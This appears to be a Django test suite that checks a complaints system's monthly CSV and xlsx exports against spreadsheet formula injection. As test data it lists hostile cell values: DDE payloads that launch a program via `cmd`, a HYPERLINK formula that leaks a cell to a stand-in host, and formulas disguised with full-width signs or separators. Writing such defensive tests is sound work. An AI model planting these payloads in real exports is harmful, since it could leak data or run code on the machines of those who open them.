"""Formula injection through the monthly exports (CSV and xlsx).

Threat: a caller's name, address or complaint text that a spreadsheet reads as a formula runs
when the quality department opens the month's export (`=HYPERLINK(…)` leaks cells, DDE
`cmd|…` runs a program). It can hide behind leading spaces, tab, CR or LF, full-width signs,
or a separator: `a;=1+1`, read by a spreadsheet that splits on `;`, starts a cell with `=`.
"""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.roles import Role
from reports.exports import FORMULA_SIGNS, neutralise
from reports.workflow import generate_report
from tests.factories import ComplaintFactory, OfficeFactory, staff

pytestmark = pytest.mark.django_db

# OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells must not begin
# with = + - @, tab (0x09) or carriage return (0x0D), and the field separator (`,` `;`) and
# quotes can start a new cell with one in the middle of the text; its two worked examples are
# the last two lines of this group.
OWASP_VECTORS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]
# The classic payloads of the "Comma Separated Vulnerabilities" write-up (Kettle, 2014) that
# the OWASP page cites: DDE and a link that leaks a neighbouring cell.
DDE_VECTORS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# What the outside test of the desk found past the ASCII check (issue 15): full-width and small
# signs, the minus sign, leading spaces and line breaks, a formula after a separator.
DESK_VECTORS = [
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "−1+1",
    "   =1+1",
    "\u3000=1+1",
    "\n=1+1",
    '"=1+1',
    "a;=1+1",
    "a; =1+1",
    "a,=1+1",
    "a|=1+1",
    "a\t=1+1",
    "第一行\r\n=1+1",
]
VECTORS = OWASP_VECTORS + DDE_VECTORS + DESK_VECTORS
SEPARATORS = [",", ";", "\t", "|"]


def starts_a_formula(text: str) -> bool:
    """Would a spreadsheet (which may trim spaces and quotes) start this cell as a formula?"""
    if text[:1] in ("\t", "\r", "\n", "\0"):
        return True
    stripped = text.lstrip().lstrip('"').lstrip()
    return stripped[:1] in set(FORMULA_SIGNS)


@pytest.fixture
def hostile_month():
    """One complaint per vector, the vector in the caller's name, address and description."""
    office = OfficeFactory()
    supervisor = staff(Role.CUSTOMER_SUPERVISOR, office=office)
    received = timezone.now() - timedelta(minutes=30)
    for vector in VECTORS:
        ComplaintFactory(
            office=office,
            received_at=received,
            complainant_name=vector,
            address_note=vector,
            description=vector,
        )
    month = timezone.localtime(received, office.zone).date().replace(day=1)
    report, _created = generate_report(month=month, now=timezone.now(), office=office)
    return report, supervisor


def _download(client, hostile_month, kind: str):
    report, supervisor = hostile_month
    client.force_login(supervisor)
    response = client.get(reverse(f"reports:{kind}", args=[report.pk]))
    assert response.status_code == 200
    return response.content


def test_no_csv_cell_starts_a_formula_and_every_vector_is_kept_as_text(client, hostile_month):
    """Threat: a vector in a complaint runs as a formula when the CSV opens in a spreadsheet."""
    text = _download(client, hostile_month, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    for vector in VECTORS:
        assert neutralise(vector) in cells, vector  # shown as text, nothing dropped
        assert neutralise(vector) != vector, vector  # an apostrophe before each trigger


@pytest.mark.parametrize("separator", SEPARATORS, ids=["comma", "semicolon", "tab", "pipe"])
def test_a_spreadsheet_splitting_on_any_separator_finds_no_formula(
    client, hostile_month, separator
):
    """Threat: a spreadsheet set to split on `;` (or tab, or `|`) opens the CSV naively, quotes
    ignored, so `a;=1+1` becomes two cells, the second a formula; a line break in a text
    starts a new row the same way."""
    text = _download(client, hostile_month, "csv").decode("utf-8-sig")
    assert "a;'=1+1\"" in text  # the hostile text is there, neutralised after its separator
    pieces = [piece for line in text.splitlines() for piece in line.split(separator)]
    assert not [piece for piece in pieces if starts_a_formula(piece)]


def test_every_csv_field_is_quoted(client, hostile_month):
    """Threat: an unquoted field lets a separator inside a text end the cell early."""
    text = _download(client, hostile_month, "csv").decode("utf-8-sig")
    first_line = text.split("\r\n", 1)[0]
    assert first_line.startswith('"') and first_line.endswith('"')
    assert '"a;\'=1+1"' in text


def test_no_xlsx_cell_is_a_formula_and_every_vector_is_kept_as_text(client, hostile_month):
    """Threat: openpyxl stores a text beginning with `=` as a formula, and a spreadsheet runs
    one beginning with another trigger; every sheet, every cell is checked."""
    workbook = openpyxl.load_workbook(io.BytesIO(_download(client, hostile_month, "xlsx")))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not starts_a_formula(cell.value), (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    for vector in VECTORS:
        # The xlsx format stores a line break as LF only.
        assert neutralise(vector).replace("\r\n", "\n").replace("\r", "\n") in texts, vector


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_neutralising_twice_changes_nothing_more(vector):
    """Threat: a text exported, edited and imported again piles up apostrophes (or loses them)."""
    assert neutralise(neutralise(vector)) == neutralise(vector)


def test_ordinary_text_is_exported_unchanged():
    """The sanity case: dates, numbers, names with a dash stay as typed."""
    for text in ("2026-11-10 09:00", "HY-202611-0001", "李 - 王", "3号楼2单元1502", "a; b"):
        assert neutralise(text) == text
